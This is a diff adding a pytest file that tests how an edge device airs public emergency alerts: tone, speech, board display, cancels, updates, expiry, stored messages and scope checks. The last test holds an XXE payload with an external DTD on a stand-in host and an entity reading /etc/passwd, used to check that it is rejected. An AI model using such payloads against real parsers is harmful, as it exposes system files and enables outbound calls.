@@ -1,0 +1,544 @@
+"""Public alerts, from the broker to ears and dots: said, shown, taken back, and what is never aired."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+from datetime import datetime, timedelta
+
+import msgspec
+import numpy as np
+import pytest
+
+from edge_agent.command.alert_settings import AlertSettings, StoredMessage
+from edge_agent.model import OrderId
+from hal.sim.loop import NS
+from tests import alerts
+from tests.flows import hearing
+from tests.flows.conftest import Programme
+from tests.flows.scene import DISTRICT, SETTINGS, Village
+from tests.flows.test_board import lit, meant
+
+BASE = AlertSettings(geocodes={alerts.CODE[0]: (alerts.CODE[1], "02")}, languages=("vi", "en"))
+SAID = f"{alerts.HEADLINE}. {alerts.DESCRIPTION}. {alerts.INSTRUCTION}."
+SHOWN = f"{alerts.HEADLINE}. {alerts.INSTRUCTION}"
+TONE_S = 4.0
+
+
+def village_with(seed: int = 1, **changes: object) -> Village:
+    """A node with other alert settings."""
+    return Village(
+        seed, settings=msgspec.structs.replace(SETTINGS, alerts=msgspec.structs.replace(BASE, **changes))
+    )
+
+
+@pytest.fixture
+def village() -> Village:
+    return village_with()
+
+
+def now(village: Village) -> datetime:
+    return village.world.outside.utc_now().replace(microsecond=0)
+
+
+def warn(village: Village, text: str, klass: str = "emergency", **more: object) -> OrderId:
+    return village.order("alert", klass, cap=text, **more)
+
+
+def flood(village: Village, identifier: str = "lu-1", klass: str = "emergency", **more: object) -> OrderId:
+    return warn(village, alerts.alert(identifier, now(village), alerts.block()), klass, **more)
+
+
+def shown(village: Village) -> object:
+    return lit(village.world.sign.current.dots)
+
+
+def loud_s(village: Village) -> float:
+    """For how long anything was audible, in all lives."""
+    return sum(end - start for life in village.world.lives() for start, end in life.loud) / NS
+
+
+# ---------------------------------------------------------------- said and shown
+
+
+def test_an_alert_is_said_after_a_tone_as_often_as_configured_and_takes_the_board(village: Village) -> None:
+    async def story() -> None:
+        await village.ends(village.order("board_show", text="Họp 19h30", ttl_s=86_400))
+        order = flood(village)
+        assert await village.ends(order) == ["successful"]
+        assert village.world.speech.said == [(SAID, "vi-VN")]
+        await village.quiet()
+        entry = village.report(order)
+        assert (entry["outcome"], entry["class"], entry["proof"]) == ("AIRED", "emergency", 2)
+        assert entry["pages"] >= 1
+        assert shown(village) in meant(SHOWN, emergency=True)
+        await asyncio.sleep(61 * 60)
+        assert shown(village) in meant("Họp 19h30"), "after an hour, for it says no end, the notice is back"
+
+    village.tell(story)
+    words_s = 0.3 + 0.06 * len(SAID)
+    heard_s = len(hearing.recording(village.world.lives()[0])) / hearing.RATE_HZ
+    assert heard_s == pytest.approx(2 * (TONE_S + 0.3 + words_s) + BASE.gap_s, abs=0.6)
+
+
+def test_tone_and_words_are_as_loud_as_a_programme(village: Village) -> None:
+    async def story() -> None:
+        await village.ends(flood(village))
+
+    village.tell(story)
+    from edge_agent.playout.gain import volume_factor
+
+    heard = hearing.recording(village.world.lives()[0]).astype(np.float64)
+    first = int(np.flatnonzero(np.abs(heard) > 1e-4)[0])
+    tone = heard[first + 4_800 : first + 3 * 48_000]
+    words = heard[first + round(4.8 * 48_000) : first + 8 * 48_000]
+    for part in (tone, words):
+        level_db = 20 * np.log10(np.sqrt(np.mean(part**2)) / volume_factor(70))
+        assert level_db == pytest.approx(-17, abs=4), "unweighted, against -17 LUFS"
+
+
+def test_an_emergency_cuts_a_bulletin_off_which_then_goes_on(village: Village, bulletin: Programme) -> None:
+    asset = bulletin.on(village)
+
+    async def story() -> None:
+        play = village.play(asset)
+        await village.reaches(play, "executing")
+        await asyncio.sleep(6)
+        order = flood(village)
+        assert await village.ends(play, order) == ["successful", "successful"]
+        await village.quiet()
+        assert village.report(play)["preempted"] == 1
+
+    village.tell(story)
+
+
+def test_an_alert_is_never_more_urgent_than_its_order(village: Village, bulletin: Programme) -> None:
+    asset = bulletin.on(village)
+
+    async def story() -> None:
+        play = village.play(asset)
+        await village.reaches(play, "executing")
+        order = flood(village, klass="routine")
+        assert await village.ends(play, order) == ["successful", "successful"]
+        await village.quiet()
+        assert village.report(play)["preempted"] == 0
+
+    village.tell(story)
+
+
+def test_what_is_not_grave_is_only_shown(village: Village) -> None:
+    async def story() -> None:
+        text = alerts.alert("suong-1", now(village), alerts.block(grade=alerts.FOG, event="Sương mù"))
+        order = warn(village, text)
+        assert await village.ends(order) == ["successful"]
+        assert shown(village) in meant(SHOWN)
+
+    village.tell(story)
+    assert not village.world.speech.said
+    assert loud_s(village) == 0
+
+
+def test_each_configured_language_is_spoken_and_no_other() -> None:
+    village = village_with()
+
+    async def story() -> None:
+        blocks = [
+            alerts.block(language="fr-FR", headline="Crue soudaine"),
+            alerts.block(language="en-GB", headline="Flash flood", description="", instruction=""),
+            alerts.block(),
+        ]
+        order = warn(village, alerts.alert("lu-1", now(village), *blocks))
+        assert await village.ends(order) == ["successful"]
+
+    village.tell(story)
+    assert village.world.speech.said == [(SAID, "vi-VN"), ("Flash flood.", "en-GB")]
+
+
+def test_without_a_known_language_the_first_block_is_read_if_there_is_a_voice(village: Village) -> None:
+    async def story() -> None:
+        blocks = [alerts.block(language="hmn", headline="Dej nyab"), alerts.block(language="fr")]
+        order = warn(village, alerts.alert("lu-1", now(village), *blocks))
+        assert await village.ends(order) == ["failed"], "this world has no voice for it"
+        assert village.code(order) == "hardware_fault"
+        await village.quiet()
+        assert village.report(order)["outcome"] == "PARTIAL", "the tone was sounded, the board shows it"
+
+    village.tell(story)
+    assert loud_s(village) > TONE_S
+
+
+# ---------------------------------------------------------------- exercise, test, and never
+
+
+def test_an_exercise_is_announced_as_one_and_does_not_break_in() -> None:
+    village = village_with(exercise=True)
+
+    async def story() -> None:
+        text = alerts.alert("dt-1", now(village), alerts.block(), status="Exercise")
+        order = warn(village, text)
+        assert await village.ends(order) == ["successful"]
+        assert shown(village) in meant(f"DIỄN TẬP: {SHOWN}")
+
+    village.tell(story)
+    said = [text for text, _ in village.world.speech.said]
+    assert said == ["Đây là diễn tập. Diễn tập.", SAID, "Đây là diễn tập. Diễn tập."]
+
+
+@pytest.mark.parametrize("status", ["Exercise", "Test", "System", "Draft"])
+def test_what_is_not_actual_is_refused_unless_enabled(village: Village, status: str) -> None:
+    async def story() -> None:
+        order = warn(village, alerts.alert("x-1", now(village), alerts.block(), status=status))
+        assert await village.ends(order) == ["rejected"]
+        assert village.code(order) == "out_of_scope"
+        assert status in village.told(order)[-1]["reason"]["text"]
+
+    village.tell(story)
+    assert loud_s(village) == 0
+    assert not village.world.sign.shown or not village.world.sign.current.lit
+
+
+@pytest.mark.parametrize("status", ["System", "Draft"])
+def test_system_and_draft_are_never_aired(status: str) -> None:
+    village = village_with(exercise=True, test=True)
+
+    async def story() -> None:
+        order = warn(village, alerts.alert("x-1", now(village), alerts.block(), status=status))
+        assert await village.ends(order) == ["rejected"]
+
+    village.tell(story)
+    assert loud_s(village) == 0
+
+
+@pytest.mark.parametrize("scope", ["Restricted", "Private"])
+def test_only_the_public_scope_is_aired(village: Village, scope: str) -> None:
+    async def story() -> None:
+        order = warn(village, alerts.alert("x-1", now(village), alerts.block(), scope=scope))
+        assert await village.ends(order) == ["rejected"]
+        assert village.code(order) == "out_of_scope"
+
+    village.tell(story)
+    assert loud_s(village) == 0
+
+
+def test_an_alert_for_elsewhere_or_nowhere_is_not_aired(village: Village) -> None:
+    async def story() -> None:
+        for number, area in enumerate((alerts.ELSEWHERE, "")):
+            order = warn(village, alerts.alert(f"x-{number}", now(village), alerts.block(area=area)))
+            assert await village.ends(order) == ["rejected"]
+            assert village.code(order) == "wrong_audience"
+
+    village.tell(story)
+    assert loud_s(village) == 0
+
+
+def test_a_position_in_a_polygon_or_circle_is_enough() -> None:
+    village = village_with(geocodes={}, latitude=22.82, longitude=104.98)
+
+    async def story() -> None:
+        polygon = "<polygon>22.7,104.9 22.7,105.1 22.9,105.1 22.9,104.9 22.7,104.9</polygon>"
+        for number, area in enumerate((polygon, "<circle>22.9,104.98 10</circle>")):
+            order = warn(village, alerts.alert(f"x-{number}", now(village), alerts.block(area=area)))
+            assert await village.ends(order) == ["successful"]
+        far = alerts.block(area="<circle>22.9,104.98 8</circle>")
+        assert await village.ends(warn(village, alerts.alert("x-9", now(village), far))) == ["rejected"]
+
+    village.tell(story)
+
+
+# ---------------------------------------------------------------- chains
+
+
+def test_a_cancel_ends_the_sound_and_clears_the_board(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        order = flood(village)
+        await village.reaches(order, "executing")
+        await asyncio.sleep(6)
+        cancel = warn(
+            village,
+            alerts.alert("huy-1", now(village), kind="Cancel", references=[("lu-1", sent)]),
+            "routine",
+        )
+        assert await village.ends(order, cancel) == ["cancelled", "successful"]
+        assert "cancelled by order" in village.told(order)[-1]["reason"]["text"]
+        assert village.told(cancel)[-1]["result"] == {"withdrawn": [order]}
+        assert not village.world.sign.current.lit
+        silent_from = loud_s(village)
+        await asyncio.sleep(60)
+        assert loud_s(village) == silent_from
+
+    village.tell(story)
+
+
+def test_a_cancel_after_all_was_said_still_clears_the_board(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        order = flood(village)
+        await village.ends(order)
+        assert village.world.sign.current.lit
+        cancel = alerts.alert("huy-1", now(village), kind="Cancel", references=[("lu-1", sent)])
+        assert await village.ends(warn(village, cancel)) == ["successful"]
+        assert not village.world.sign.current.lit
+
+    village.tell(story)
+
+
+def test_a_cancel_that_comes_before_its_alert_silences_it(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        cancel = alerts.alert("huy-1", sent, kind="Cancel", references=[("lu-1", sent)])
+        assert await village.ends(warn(village, cancel)) == ["successful"]
+        await village.restart()
+        order = warn(village, alerts.alert("lu-1", sent, alerts.block()))
+        assert await village.ends(order) == ["cancelled"]
+        assert village.code(order) == "cancelled"
+
+    village.tell(story)
+    assert loud_s(village) == 0
+
+
+def test_an_update_takes_the_place_of_all_it_names(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        order = flood(village)
+        await village.reaches(order, "executing")
+        await asyncio.sleep(5)
+        text = alerts.alert(
+            "lu-2",
+            now(village),
+            alerts.block(headline="Nước đang rút"),
+            kind="Update",
+            references=[("lu-1", sent)],
+        )
+        update = warn(village, text)
+        assert await village.ends(order, update) == ["superseded", "successful"]
+        assert shown(village) in meant(f"Nước đang rút. {alerts.INSTRUCTION}", emergency=True)
+        again = warn(village, alerts.alert("lu-1", sent, alerts.block()))
+        assert await village.ends(again) == ["superseded"]
+
+    village.tell(story)
+
+
+def test_an_update_for_elsewhere_ends_the_alert_here(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        order = flood(village)
+        await village.ends(order)
+        text = alerts.alert(
+            "lu-2",
+            now(village),
+            alerts.block(area=alerts.ELSEWHERE),
+            kind="Update",
+            references=[("lu-1", sent)],
+        )
+        update = warn(village, text)
+        assert await village.ends(update) == ["failed"]
+        assert village.code(update) == "wrong_audience"
+        assert not village.world.sign.current.lit
+
+    village.tell(story)
+
+
+def test_another_authority_cannot_take_back_what_it_could_not_have_ordered(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village)
+        order = flood(village)
+        await village.ends(order)
+        cancel = alerts.alert("huy-1", now(village), kind="Cancel", references=[("lu-1", sent)])
+        weak = warn(village, cancel, "routine", issuer=DISTRICT)
+        assert await village.ends(weak) == ["successful"]
+        assert village.world.sign.current.lit
+        strong = warn(village, cancel, "emergency", issuer=DISTRICT)
+        assert await village.ends(strong) == ["successful"]
+        assert not village.world.sign.current.lit
+
+    village.tell(story)
+
+
+def test_the_same_alert_by_two_ways_sounds_once(village: Village) -> None:
+    async def story() -> None:
+        text = alerts.alert("lu-1", now(village), alerts.block())
+        first, second = warn(village, text), warn(village, text, issuer=DISTRICT)
+        assert sorted(await village.ends(first, second)) == ["rejected", "successful"]
+        assert village.code(second) == "replayed"
+
+    village.tell(story)
+    assert len(village.world.speech.said) == 1
+
+
+# ---------------------------------------------------------------- time
+
+
+def test_an_alert_that_has_ended_is_not_aired(village: Village) -> None:
+    async def story() -> None:
+        sent = now(village) - timedelta(hours=2)
+        ended = alerts.alert("lu-1", sent, alerts.block(expires=now(village) - timedelta(seconds=1)))
+        silent = alerts.alert("lu-2", sent, alerts.block())
+        for text in (ended, silent):
+            order = warn(village, text)
+            assert await village.ends(order) == ["expired"]
+
+    village.tell(story)
+    assert loud_s(village) == 0
+
+
+def test_the_board_is_given_back_when_the_alert_ends_and_never_later_than_the_ceiling() -> None:
+    village = village_with(max_expiry_min=120)
+
+    async def story() -> None:
+        for number, ends_h in enumerate((1, 48)):
+            text = alerts.alert(
+                f"lu-{number}", now(village), alerts.block(expires=now(village) + timedelta(hours=ends_h))
+            )
+            began_s = asyncio.get_running_loop().time()
+            await village.ends(warn(village, text))
+            await village.until(lambda: not village.world.sign.current.lit, within_s=10_000)
+            stood_s = asyncio.get_running_loop().time() - began_s
+            assert stood_s == pytest.approx(3600 * min(ends_h, 2), abs=30)
+
+    village.tell(story)
+
+
+def test_a_restart_in_the_middle_says_it_again_and_a_long_outage_does_not(village: Village) -> None:
+    async def story() -> None:
+        text = alerts.alert("lu-1", now(village), alerts.block(expires=now(village) + timedelta(minutes=30)))
+        order = warn(village, text)
+        await village.reaches(order, "executing")
+        await asyncio.sleep(8)
+        await village.world.outage(dark_s=20)
+        await village.until(lambda: village.world.sign.current.lit, within_s=120)
+        assert await village.ends(order) == ["successful"]
+        text = alerts.alert("lu-2", now(village), alerts.block(expires=now(village) + timedelta(minutes=5)))
+        late = warn(village, text)
+        await village.reaches(late, "executing")
+        await asyncio.sleep(8)
+        await village.world.outage(dark_s=600)
+        assert await village.ends(late) == ["expired"]
+        await asyncio.sleep(60)
+        assert not village.world.sign.current.lit
+
+    village.tell(story)
+
+
+# ---------------------------------------------------------------- stops
+
+
+def test_a_stop_by_class_silences_and_a_stop_by_name_also_clears(village: Village) -> None:
+    async def story() -> None:
+        first = flood(village)
+        await village.reaches(first, "executing")
+        await village.until(lambda: village.world.sign.current.lit)
+        await village.ends(village.order("stop"))
+        assert await village.ends(first) == ["cancelled"]
+        await asyncio.sleep(5)
+        assert village.world.sign.current.lit, "what the board shows still holds"
+        second = flood(village, "lu-2")
+        await village.reaches(second, "executing")
+        await asyncio.sleep(8)
+        stop = village.order("stop", order=second)
+        assert await village.ends(stop, second) == ["successful", "cancelled"]
+        await asyncio.sleep(5)
+        assert shown(village) not in meant(SHOWN, emergency=True) or not village.world.sign.current.lit
+
+    village.tell(story)
+
+
+# ---------------------------------------------------------------- stored messages
+
+
+def stored(programme: Programme) -> StoredMessage:
+    digest = f"sha256:{hashlib.sha256(programme.blob).hexdigest()}"
+    return StoredMessage(
+        media=digest, url=f"http://media.example/{programme.name}", text="LŨ QUÉT. CHẠY NGAY"
+    )
+
+
+def test_a_stored_message_plays_without_network_and_without_a_voice(alarm: Programme) -> None:
+    village = village_with(messages={"lu-quet": stored(alarm)}, times=1)
+    alarm.on(village)
+
+    async def story() -> None:
+        await asyncio.sleep(6)
+        village.world.web_server.network = "lost"
+        await village.restart()
+        village.world.speech.missing = True
+        order = village.order("alert", "emergency", message="lu-quet")
+        assert await village.ends(order) == ["successful"]
+        assert shown(village) in meant("LŨ QUÉT. CHẠY NGAY", emergency=True)
+        parameter = "<parameter><valueName>pa-message</valueName><value>lu-quet</value></parameter>"
+        named = alerts.alert("lu-1", now(village), alerts.block(more=parameter))
+        assert await village.ends(warn(village, named)) == ["successful"]
+        both = alerts.alert("lu-2", now(village), alerts.block())
+        assert await village.ends(warn(village, both, message="lu-quet")) == ["successful"]
+
+    village.tell(story)
+    heard = hearing.recording(village.world.lives()[1])
+    third = len(heard) // 3
+    for start in (0, third, 2 * third):
+        place = hearing.find(heard[start : start + third], alarm.frames, len(alarm.frames) // 2)
+        assert place.gain > 0.1
+        assert hearing.same(heard[start : start + third], alarm.frames, place, 960, len(alarm.frames) - 960)
+
+
+def test_a_message_that_is_not_stored_is_refused_by_name(village: Village) -> None:
+    async def story() -> None:
+        order = village.order("alert", "emergency", message="dong-dat")
+        assert await village.ends(order) == ["rejected"]
+        assert (village.code(order), "dong-dat" in village.told(order)[-1]["reason"]["text"]) == (
+            "bad_args",
+            True,
+        )
+
+    village.tell(story)
+
+
+def test_a_stored_message_that_is_missing_raises_an_alert_long_before_it_is_needed(alarm: Programme) -> None:
+    village = village_with(messages={"lu-quet": stored(alarm)})
+
+    async def story() -> None:
+        await village.until(lambda: village.up("alert/message_missing"), within_s=4000)
+        assert "lu-quet" in village.up("alert/message_missing")[-1]["text"]
+        order = village.order("alert", "emergency", message="lu-quet")
+        assert await village.ends(order) == ["failed"], "the tone alone is not the message"
+        alarm.on(village)
+        await asyncio.sleep(2 * 3600)
+        assert village.up("alert/message_missing")[-1] is None
+
+    village.tell(story)
+
+
+def test_without_a_voice_the_tone_sounds_and_the_board_shows(village: Village) -> None:
+    async def story() -> None:
+        village.world.speech.missing = True
+        text = alerts.alert("lu-1", now(village), alerts.block())
+        order = warn(village, text)
+        assert await village.ends(order) == ["failed"]
+        assert village.code(order) == "hardware_fault"
+        assert shown(village) in meant(SHOWN, emergency=True)
+        await village.quiet()
+        assert village.report(order)["outcome"] == "PARTIAL"
+
+    village.tell(story)
+    assert loud_s(village) > 2 * TONE_S * 0.9
+
+
+# ---------------------------------------------------------------- hostile
+
+
+def test_hostile_xml_reads_no_file_and_opens_no_connection(village: Village) -> None:
+    hostile = (
+        '<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://evil.example/a.dtd" ['
+        '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        + alerts.alert("x", datetime(2026, 11, 24, 8, tzinfo=alerts.VIETNAM), alerts.block())
+        .split("?>", 1)[1]
+        .replace(alerts.HEADLINE, "&x;")
+    )
+
+    async def story() -> None:
+        order = warn(village, hostile)
+        assert await village.ends(order) == ["rejected"]
+        assert village.code(order) == "bad_args"
+
+    village.tell(story)
+    assert not village.world.web_server.requests
+    assert loud_s(village) == 0
